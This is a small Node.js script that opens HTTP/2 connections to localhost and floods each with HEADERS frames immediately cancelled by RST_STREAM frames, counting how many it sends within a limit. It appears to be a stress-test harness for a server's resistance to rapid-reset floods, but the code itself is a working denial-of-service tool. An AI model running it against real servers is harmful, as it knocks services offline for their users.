// A client that asks and takes back what it has asked for, as fast as it can, on one connection after the other: so many
// times, for at most so many seconds. Prints how often it did.

import { connect } from 'node:net'

const [port, wanted, seconds] = process.argv.slice(2).map(Number)
const deadline = Date.now() + seconds * 1000
const BATCH = 200
let sent = 0

function frame(type, flags, id, payload) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(id, 5)
  return Buffer.concat([head, payload])
}

const fields = Buffer.from([0x82, 0x86, 0x84, 0x01, 0x01, 0x78])
const cancel = Buffer.from([0, 0, 0, 8])

function attack() {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1')
    let id = 1
    const more = () => {
      while (sent < wanted && Date.now() < deadline && !socket.destroyed) {
        const frames = []
        for (let i = 0; i < BATCH; i++, id += 2) frames.push(frame(1, 5, id, fields), frame(3, 0, id, cancel))
        sent += BATCH
        if (!socket.write(Buffer.concat(frames))) return
      }
      if (!socket.destroyed) socket.end()
    }
    socket.on('connect', () => {
      socket.write(
        Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]),
      )
      more()
    })
    socket.on('drain', more)
    socket.on('data', () => undefined)
    socket.on('error', () => undefined)
    socket.on('close', resolve)
  })
}

while (sent < wanted && Date.now() < deadline) await attack()
process.stdout.write(String(sent))
